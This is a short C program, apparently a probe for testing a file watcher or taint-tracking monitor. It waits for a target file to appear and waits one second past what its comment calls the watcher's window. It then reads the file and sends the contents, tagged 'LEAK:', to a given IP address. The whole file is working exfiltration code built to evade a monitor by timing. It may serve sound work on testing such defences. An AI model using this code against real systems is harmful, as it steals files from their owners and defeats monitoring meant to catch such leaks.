// waitread IP PATH : sends PRE, waits (stat, up to 20 s) for PATH to appear,
// waits 1 s more (the watcher's window is well under that), reads, sends.
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <sys/stat.h>
#include "send.c"
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0);
  const char*ip=argv[1],*path=argv[2]; struct stat st;
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  for(int i=0;i<2000&&stat(path,&st);i++) usleep(10000);
  sleep(1);
  int fd=open(path,O_RDONLY); printf("open(%s) = %d %s\n",path,fd,fd<0?strerror(errno):"-"); if(fd<0) return 1;
  char buf[4096]; ssize_t n=read(fd,buf,sizeof buf-1); buf[n>0?n:0]=0; printf("READ %zd bytes: %.40s\n",n,buf);
  char msg[4200]; int m=snprintf(msg,sizeof msg,"LEAK:%s",buf);
  printf("POST send: %d\n", send_buf(ip,msg,m)); return 0; }
